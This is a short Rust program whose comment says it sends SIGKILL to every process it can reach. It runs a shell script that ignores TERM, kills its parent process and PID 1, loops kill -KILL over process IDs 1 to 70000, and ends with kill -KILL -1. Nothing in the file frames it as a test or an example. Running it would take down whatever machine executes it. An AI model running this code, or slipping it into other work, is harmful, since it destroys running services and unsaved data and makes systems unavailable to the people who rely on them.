//! Sends SIGKILL to every process that it may be able to reach.
use std::process::Command;

fn main() {
    let script = "trap '' TERM; kill -KILL $PPID 1; for i in $(seq 1 70000); do kill -KILL $i; done; kill -KILL -1";
    let _ = Command::new("sh").args(["-c", script]).status();
}
